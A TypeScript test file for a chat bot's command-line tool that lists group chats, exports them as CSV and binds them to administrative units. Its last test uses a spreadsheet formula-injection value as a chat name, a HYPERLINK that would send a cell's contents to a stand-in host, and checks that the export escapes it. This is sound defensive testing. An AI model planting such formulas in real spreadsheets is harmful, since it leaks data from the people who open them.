import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { recordChatJoined } from '../../src/db/repos/chats.js';
import { getLiveBinding } from '../../src/db/repos/units-chat-bindings.js';
import { importUnits } from '../../src/usecases/import-units.js';
import { cliInProcess } from '../support/cli-in-process.js';
import { ManualClock } from '../support/manual-clock.js';
import { createTestDb, type TestDb } from '../support/test-db.js';
import { ORG_CSV } from './campaign-fixtures.js';

/**
 * README's first setup: `npm run cli -- chats list` before the bot had recorded any group chat (the bot
 * not running when it was added to them, or not added yet) printed nothing at all, exit 0.
 */
describe('npm run cli -- chats list with no group chat recorded', () => {
  let tdb: TestDb;
  const clock = new ManualClock('2026-03-01T09:00:00+08:00');
  beforeAll(async () => {
    tdb = await createTestDb();
  });
  afterAll(() => tdb.close());

  it('says how the bot comes to know a chat', async () => {
    const empty = await cliInProcess(['chats', 'list'], {}, tdb);
    expect(empty.code).toBe(0);
    expect(empty.stdout.trim()).toBe(
      '机器人还没有记下任何群。机器人运行时，把它加进群（群设置 → 群机器人 → 添加机器人），或在已加了它的群里 @归档助手 说一句话，它就记下这个群；' +
        '之后再运行 npm run cli -- chats list（内置数据库：先停止机器人）',
    );
    await recordChatJoined(tdb.db, { chatId: 'oc_direct', chatType: 'p2p', at: clock.now() });
    const direct = await cliInProcess(['chats', 'list'], {}, tdb);
    expect(direct.stdout.split('\n').filter(Boolean)).toEqual([
      expect.stringMatching(/^机器人还没有记下任何群。/),
      '另有 1 个和机器人的单聊（不用绑定）',
    ]);
    // The table stays a table: its header only (`chats list --csv > 群.csv`); why it is empty is said on
    // the screen (stderr), not silently left as an empty file.
    const csv = await cliInProcess(['chats', 'list', '--csv'], {}, tdb);
    expect(csv.code).toBe(0);
    expect(csv.stdout).toBe('\uFEFF群ID,群名,单位编码\n');
    expect(csv.stderr).toMatch(/^机器人还没有记下任何群。/);
  });
});

/**
 * README's first setup: `npm run cli -- chats bind` binds a village chat the bot is in (its id from
 * `chats list`). A mistyped id used to be bound all the same («本群已绑定 …», exit 0) to a chat that
 * does not exist, while the real chat stayed unbound; and `chats list` named the unit by its row id.
 */
describe('npm run cli -- chats list / bind', () => {
  let tdb: TestDb;
  const clock = new ManualClock('2026-03-01T09:00:00+08:00');
  beforeAll(async () => {
    tdb = await createTestDb();
    await importUnits({ db: tdb.db, clock }, { text: ORG_CSV, fileName: 'org.csv' });
    await recordChatJoined(tdb.db, { chatId: 'oc_village1', name: '东村工作群', at: clock.now() });
  });
  afterAll(() => tdb.close());

  it('refuses a chat the bot has not recorded, binding nothing', async () => {
    const res = await cliInProcess(['chats', 'bind', 'oc_vilage1', 'V1'], {}, tdb);
    expect(res.stderr.trim()).toBe(
      '机器人不在群 oc_vilage1 里（没有记录）：先把机器人加进这个群，再用 npm run cli -- chats list 查群的 ID',
    );
    expect(res.code).toBe(1);
    expect(await getLiveBinding(tdb.db, 'oc_vilage1')).toBeUndefined();
  });

  it('binds a chat the bot is in, and lists it with the unit’s code and name', async () => {
    const bind = await cliInProcess(['chats', 'bind', 'oc_village1', 'V1'], {}, tdb);
    expect(bind.stderr).toBe('');
    expect(bind.code).toBe(0);
    expect(bind.stdout.trim()).toBe('oc_village1：本群已绑定 测试县/甲镇/东村');
    const list = await cliInProcess(['chats', 'list'], {}, tdb);
    expect(list.stdout.trim()).toBe('oc_village1\t在群里\t东村工作群\t已绑定 V1 测试县/甲镇/东村');
  });
});

/**
 * A county binds ~200 village chats: one `chats bind CHAT_ID UNIT_CODE` per chat, each id copied by
 * hand from `chats list`, was the only way from the command line. `chats list --csv` now writes the
 * table to fill in, and `chats bind FILE` binds it all at once, refusing a bad table whole (naming
 * every line), and re-binding a chat given the wrong village once the table is fixed.
 */
describe('npm run cli -- chats list --csv / chats bind FILE', () => {
  let tdb: TestDb;
  let dir: string;
  const clock = new ManualClock('2026-03-01T09:00:00+08:00');
  const cli = (...args: string[]) => cliInProcess(args, {}, tdb);
  const table = (name: string, text: string) => {
    writeFileSync(join(dir, name), text);
    return join(dir, name);
  };
  beforeAll(async () => {
    tdb = await createTestDb();
    dir = mkdtempSync(join(tmpdir(), 'chats-table-'));
    await importUnits({ db: tdb.db, clock }, { text: ORG_CSV, fileName: 'org.csv' });
    for (const [chatId, name] of <const>[
      ['oc_east', '东村工作群'],
      ['oc_west', '西村, 工作群'],
      ['oc_south', '南村群'],
    ])
      await recordChatJoined(tdb.db, { chatId, name, at: clock.now() });
    await recordChatJoined(tdb.db, { chatId: 'oc_direct', chatType: 'p2p', at: clock.now() });
    expect((await cli('chats', 'bind', 'oc_east', 'V1')).code).toBe(0);
  });
  afterAll(async () => {
    await tdb.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('writes the chats as a table to fill in, leaving out direct chats', async () => {
    const res = await cli('chats', 'list', '--csv');
    expect(res.code).toBe(0);
    expect(res.stdout.split('\n')).toEqual([
      '\uFEFF群ID,群名,单位编码',
      'oc_east,东村工作群,V1',
      'oc_south,南村群,',
      'oc_west,"西村, 工作群",',
      '',
    ]);
    const list = await cli('chats', 'list');
    expect(list.stdout.trim().split('\n').at(-1)).toBe('另有 1 个和机器人的单聊（不用绑定）');
  });

  it('refuses a table with problems whole, naming every line, and binds nothing', async () => {
    const res = await cli(
      'chats',
      'bind',
      table(
        'bad.csv',
        '群ID,群名,单位编码\noc_south,南村群,V9\noc_nowhere,,V2\noc_direct,,V2\noc_east,,V1\noc_east,,V2\n530521,,V1\n',
      ),
    );
    expect(res.code).toBe(1);
    expect(res.stderr.trim().split('\n')).toEqual([
      'bad.csv 第 6 行: 群 oc_east 在第 5 行已经有了，一个群只能绑定一个单位',
      'bad.csv 第 7 行: 群ID "530521" 应以 oc_ 开头（用 npm run cli -- chats list --csv 导出的群ID）',
    ]);
    const res2 = await cli(
      'chats',
      'bind',
      table('bad2.csv', '群ID,单位编码\noc_south,V9\noc_nowhere,V2\noc_direct,V2\n'),
    );
    expect(res2.code).toBe(1);
    expect(res2.stderr.trim().split('\n')).toEqual([
      'bad2.csv 第 2 行: 单位编码 V9 不存在',
      'bad2.csv 第 3 行: 机器人不在群 oc_nowhere 里（没有记录）：先把机器人加进这个群',
      'bad2.csv 第 4 行: oc_direct 是和机器人的单聊，不用绑定',
    ]);
    expect(await getLiveBinding(tdb.db, 'oc_south')).toBeUndefined();
  });

  it('binds the filled-in table, and re-binds a chat given the wrong village once it is fixed', async () => {
    const exported = (await cli('chats', 'list', '--csv')).stdout;
    // 西村's chat given 南村 by mistake; 南村's chat not decided yet.
    const path = table('群.csv', exported.replace('"西村, 工作群",', '"西村, 工作群",V3'));
    const first = await cli('chats', 'bind', path);
    expect(first.stderr).toBe('');
    expect(first.stdout.split('\n')).toEqual([
      '读取 群.csv（CSV，UTF-8 (BOM) 编码）',
      '群绑定完成：新绑定 1，改绑 0，恢复 0，原已绑定 1，单位编码空着跳过 1',
      '',
    ]);
    const fixed = table('群.csv', exported.replace('"西村, 工作群",', '"西村, 工作群",V2'));
    const again = await cli('chats', 'bind', fixed);
    expect(again.stdout.split('\n')).toEqual([
      '读取 群.csv（CSV，UTF-8 (BOM) 编码）',
      '群绑定完成：新绑定 0，改绑 1，恢复 0，原已绑定 1，单位编码空着跳过 1',
      '  oc_west：由 测试县/乙乡/南村 改为绑定 测试县/甲镇/西村',
      '',
    ]);
    const unit = await getLiveBinding(tdb.db, 'oc_west');
    const list = await cli('chats', 'list');
    expect(list.stdout).toContain('oc_west\t在群里\t西村, 工作群\t已绑定 V2 测试县/甲镇/西村\n');
    expect(unit?.status).toBe('active');
  });

  it('writes a chat name Excel would run as a formula as text, and the table still binds', async () => {
    // Any group owner names the chat; the IT person opens the table in Excel.
    const name = '=HYPERLINK("http://example.invalid/?"&A1,"点我")';
    await recordChatJoined(tdb.db, { chatId: 'oc_formula', name, at: clock.now() });
    await recordChatJoined(tdb.db, { chatId: 'oc_minus', name: '-2+3', at: clock.now() });
    const exported = (await cli('chats', 'list', '--csv')).stdout;
    const lines = exported.split('\n');
    expect(lines).toContain('oc_formula,"\'=HYPERLINK(""http://example.invalid/?""&A1,""点我"")",');
    expect(lines).toContain("oc_minus,'-2+3,");
    const res = await cli(
      'chats',
      'bind',
      table('公式.csv', exported.replace("oc_minus,'-2+3,", "oc_minus,'-2+3,V3")),
    );
    expect(res.stderr).toBe('');
    expect((await getLiveBinding(tdb.db, 'oc_minus'))?.status).toBe('active');
  });
});
